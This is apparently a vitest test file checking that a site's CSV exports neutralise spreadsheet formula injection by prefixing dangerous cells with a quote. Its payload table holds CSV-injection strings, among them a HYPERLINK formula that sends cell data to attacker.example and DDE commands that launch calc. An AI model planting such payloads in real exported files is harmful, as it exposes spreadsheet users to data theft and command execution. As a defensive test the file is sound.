/**
 * No CSV the site writes can run a formula in a spreadsheet (OWASP CSV Injection): each dangerous
 * first character is planted in a text cell of metrics.csv, mechanisms.csv and the compare
 * download, and comes out behind a single quote; numbers, including negative ones, stay numbers.
 */
import { describe, expect, test } from 'vitest';
import { metricsCsv, mechanismsCsv, type OpenDataInput } from '../../src/exports/open-data';
import { METRIC_COLUMNS, neutralise, toCsv } from '../../src/exports/csv';
import { alignMetrics, exportRows } from '../../src/domain/comparability';
import { toCompareCase } from '../../src/views/compare';
import { ROW_LABELS } from '../../src/i18n/format';
import { loadContent } from '../helpers/content';
import { casesInOrder, parseCsv } from '../helpers/expected-data';

/** Payloads, one per prefix a spreadsheet executes. */
const PAYLOADS: Record<string, string> = {
  '=': '=HYPERLINK("http://attacker.example/?"&A1,"点击查看原文")',
  '+': "+1+cmd|' /C calc'!A0",
  '-': "-2+3+cmd|' /C calc'!A0",
  '@': "@SUM(1+1)*cmd|' /C calc'!A0",
  TAB: '\t=1+1',
  CR: '\r=1+1',
  NUL: '\u0000=1+1',
};

const content = loadContent();
const base = casesInOrder(content);
const rest = {
  mechanisms: content.mechanisms,
  sources: content.sources,
  releases: content.releases,
  lessons: new Map(content.lessons.map((lesson) => [lesson.id, lesson.data])),
};

/** The casebook with one payload in a metric's quote, scope name and period, and in evidence. */
function planted(payload: string): OpenDataInput {
  const [first, ...others] = base;
  const metrics = first!.data.metrics.map((m, i) =>
    i === 0
      ? {
          ...m,
          quote: payload,
          scope: { level: 'township' as const, name: payload },
          period: payload,
        }
      : m,
  );
  const mechanisms = first!.data.mechanisms.map((m, i) =>
    i === 0 ? { ...m, evidence: payload, quote: payload } : m,
  );
  return {
    cases: [
      { ...first!, data: { ...first!.data, county: payload, metrics, mechanisms } },
      ...others,
    ],
    ...rest,
  };
}

describe.each(Object.entries(PAYLOADS))('a cell starting with %s', (_, payload) => {
  const input = planted(payload);
  const outputs: Record<string, string> = {
    'metrics.csv': metricsCsv(input),
    'mechanisms.csv': mechanismsCsv(input),
    'compare download': (() => {
      const cases = input.cases
        .slice(0, 3)
        .map((c) => toCompareCase(c.id, c.data, content.mechanisms, content.sources));
      return toCsv(METRIC_COLUMNS, exportRows(cases, alignMetrics(cases), ROW_LABELS, '0.0.0'));
    })(),
  };

  test.each(Object.keys(outputs))('is neutralised in %s and reads back as the text', (name) => {
    const csv = parseCsv(outputs[name]!);
    expect(csv.errors).toEqual([]);
    const cells = csv.rows.flat();
    const planted = cells.filter(
      (cell) => cell.includes(payload.slice(1)) && cell.endsWith(payload.slice(-6)),
    );
    expect(planted.length).toBeGreaterThan(0);
    for (const cell of planted) expect(cell).toBe(`'${payload}`);
    // Nothing in the whole file starts with a prefix a spreadsheet would execute.
    expect(
      cells.filter((cell) => /^[=+\-@\t\r\0]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell)),
    ).toEqual([]);
  });
});

test('figures stay figures: negative and decimal numbers are not quoted', () => {
  const csv = parseCsv(
    toCsv(['value', 'text'] as const, [
      { value: -12, text: '-12' },
      { value: 3.5, text: '-0.5' },
    ]),
  );
  expect(csv.rows).toEqual([
    ['-12', '-12'],
    ['3.5', '-0.5'],
  ]);
  expect(neutralise(-1)).toBe('-1');
  expect(neutralise('-1+1')).toBe("'-1+1");
  expect(neutralise('区域化党建 = 组织共建')).toBe('区域化党建 = 组织共建');
});

test('the published content has no cell that needs neutralising (so nothing readable changes)', () => {
  const input = { cases: base, ...rest };
  const cells = [metricsCsv(input), mechanismsCsv(input)].flatMap((csv) =>
    parseCsv(csv).rows.flat(),
  );
  expect(cells.filter((cell) => cell.startsWith("'"))).toEqual([]);
});
